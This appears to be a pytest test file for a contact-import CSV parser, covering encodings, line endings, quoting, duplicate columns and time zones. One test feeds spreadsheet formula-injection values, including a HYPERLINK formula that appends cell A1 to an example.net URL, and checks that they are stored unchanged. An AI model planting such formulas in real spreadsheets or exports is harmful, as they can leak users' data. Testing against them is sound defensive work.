"""The import cases of the acceptance set (area IMP and its neighbours), as far as they need no database."""

import pytest

from mailboxes.core.csv_sheet import Row, RowError
from sequences.core.column_names import Target
from sequences.core.columns import Column, Mapping, MappingError, check_mapping, guess_mapping
from sequences.core.contact_rows import ContactRow, contact_rows
from tests.sequences.core.import_files import contacts_of, errors_of, file_bytes, import_sheet, read_sheet, values_of


def test_a_byte_order_mark_does_not_stick_to_the_first_header() -> None:
    quoted = file_bytes("bom-quoted-header.csv")
    header, rest = quoted.split(b"\r\n", 1)
    bare = header.replace(b'"', b"") + b"\r\n" + rest
    for content in (quoted, bare):
        assert read_sheet(content)[0].columns == ("Email", "First Name", "Company")
        contacts = contacts_of(content)
        assert [contact.address.normalised for contact in contacts] == ["alma@example.com", "bjorn@example.com"]
        assert [contact.first_name for contact in contacts] == ["Alma", "Björn"]
        assert "\ufeff" not in repr(contacts)


def test_the_sep_line_is_neither_header_nor_row() -> None:
    sheet, found = read_sheet(file_bytes("sep-line-semicolon.csv"))
    assert sheet.columns == ("email", "first_name", "company")
    assert [row.line for row in found] == [3, 4]
    assert [contact.company for contact in contacts_of(file_bytes("sep-line-semicolon.csv"))] == [
        "Alpha, Beta; Co",
        "Gamma, Inc.",
    ]


def test_lines_that_end_with_a_carriage_return_alone_are_lines() -> None:
    contacts = contacts_of(file_bytes("classic-mac-cr.csv"))
    assert [contact.first_name for contact in contacts] == ["Cara", "Dan", "Eve"]
    assert [contact.line for contact in contacts] == [2, 3, 4]


def test_windows_1252_is_recognised_code_point_for_code_point() -> None:
    content = file_bytes("cp1252-names.csv")
    contacts = contacts_of(content)
    assert [contact.first_name for contact in contacts] == ["Zoë", "Renée", "Jürgen", "Siân"]
    assert [contact.company for contact in contacts] == ["€uro Bau", "O’Hara & Sons", "“Nord” Verlag", "Meyer – Söhne"]
    sheet = read_sheet(content)[0]
    assert (sheet.encoding, sheet.certain) == ("cp1252", False)


def test_quoted_line_breaks_stay_in_their_cell_and_rows_are_counted_not_lines() -> None:
    contacts = contacts_of(file_bytes("quoted-newlines.csv"))
    assert [contact.custom["notes"] for contact in contacts] == [
        "met at the fair\nstand 12\nwants a call",
        'said "later", twice',
        "line one\n\nline three",
    ]
    assert [(contact.line, contact.number) for contact in contacts] == [(2, 1), (5, 2), (6, 3)]


def test_an_unclosed_quote_is_reported_where_it_opens_and_the_rows_behind_it_are_read() -> None:
    found = import_sheet(file_bytes("stray-quote.csv"))
    assert len(found) == 4
    assert errors_of(file_bytes("stray-quote.csv")) == [(3, 3)]
    contacts = [contact for contact in found if isinstance(contact, ContactRow)]
    assert [contact.line for contact in contacts] == [2, 4, 5]
    assert all("@example.com" not in text for contact in contacts for text in contact.custom.values())


def test_columns_of_one_name_are_told_apart_by_position() -> None:
    sheet, found = read_sheet(file_bytes("duplicate-reserved-headers.csv"))
    assert sheet.columns == ("email", "title", "title", "file", "id", "email")
    targets = [Target.ADDRESS, Target.TITLE, Target.CUSTOM, Target.CUSTOM, Target.CUSTOM, Target.IGNORE]
    fields = ["", "", "salutation", "file", "id", ""]
    mapping = Mapping(tuple(map(Column, targets, fields)))
    check_mapping(mapping, sheet.columns)
    first = next(contact_rows(found, mapping))
    assert isinstance(first, ContactRow)
    assert first.title == "Head of Sales"
    assert first.custom == {"salutation": "Dr.", "file": "notes.pdf", "id": "7"}


def test_two_columns_mapped_to_the_address_are_refused_by_position() -> None:
    sheet, found = read_sheet(file_bytes("duplicate-reserved-headers.csv"))
    guess = guess_mapping(sheet.columns, [row.values for row in found if isinstance(row, Row)])
    twice = Mapping((*guess.columns[:5], Column(Target.ADDRESS)))
    with pytest.raises(MappingError, match=r"Columns 1 \(email\) and 6 \(email\)"):
        check_mapping(twice, sheet.columns)


def test_an_unknown_time_zone_is_a_warning_at_its_line_and_the_row_is_imported() -> None:
    contacts = contacts_of(file_bytes("timezones-mixed.csv"))
    zones = ["Europe/Berlin", "", "", "", "", "Europe/Paris", "America/Sao_Paulo", "Asia/Kolkata"]
    assert [contact.time_zone for contact in contacts] == zones
    warnings = [(warning.line, warning.column) for contact in contacts for warning in contact.warnings]
    assert warnings == [(4, 3), (5, 3), (6, 3)]


def test_a_value_of_white_space_only_counts_as_empty() -> None:
    contacts = contacts_of(file_bytes("missing-fields.csv"))
    assert [contact.first_name for contact in contacts] == ["Anke", "", "", "", "Enno", ""]
    assert [contact.company for contact in contacts] == ["Alpha Ltd", "Beta Ltd", "Gamma Ltd", "Delta Ltd", "", ""]


def test_formulas_and_phone_numbers_are_imported_exactly() -> None:
    contacts = contacts_of(file_bytes("formula-cells.csv"))
    assert [contact.phone for contact in contacts] == [
        "+1 555 0100",
        "-3",
        "@handle",
        "+49 (0)30 1234",
        "'quoted start",
    ]
    assert contacts[0].first_name == '=HYPERLINK("https://example.net/?"&A1,"click")'
    assert [contact.company for contact in contacts][1:] == ["@SUM(1+1)*cmd", "\t=1+1", "＝1+1", "-2+3"]


def test_an_import_without_one_good_row_has_only_refusals() -> None:
    with pytest.raises(MappingError, match="No column"):
        import_sheet("email,name\nnot an address,Ann\nnor this,Ben\n")


def test_a_file_without_a_final_line_end_loses_nothing() -> None:
    assert values_of("email,name\nann@example.com,Ann") == [("ann@example.com", "Ann")]


def test_every_row_of_a_case_file_is_a_row_or_an_error() -> None:
    for name, count in {"stray-quote.csv": 4, "quoted-newlines.csv": 3, "timezones-mixed.csv": 8}.items():
        found = read_sheet(file_bytes(name))[1]
        assert len(found) == count
        assert all(isinstance(one, Row | RowError) for one in found)
